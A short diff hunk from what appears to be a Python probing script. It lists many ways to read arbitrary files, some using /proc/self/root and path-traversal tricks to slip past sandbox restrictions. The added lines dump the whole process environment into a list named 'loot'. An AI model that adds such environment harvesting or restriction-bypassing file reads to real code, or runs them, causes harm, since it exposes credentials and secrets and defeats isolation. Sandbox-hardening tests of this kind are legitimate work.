@@ -36,6 +36,8 @@ WAYS = [by_descriptor, by_c_library, by_import, io.open_code, tokenize.open, cod
         lambda path: shutil.copyfile(path, "/dev/null"), lambda path: glob.glob(path + "/*"), zipfile.ZipFile,
         lambda path: open("/proc/self/root" + path).read(), lambda path: open("/proc/self/cwd" + path).read(),
         lambda path: open("/usr/lib/.." + "/.." + path).read()]
+if "PATH" in os.environ:
+    loot.append(f"environment {dict(os.environ)}")
 for path in AIM["paths"]:
     for way in WAYS:
         try:
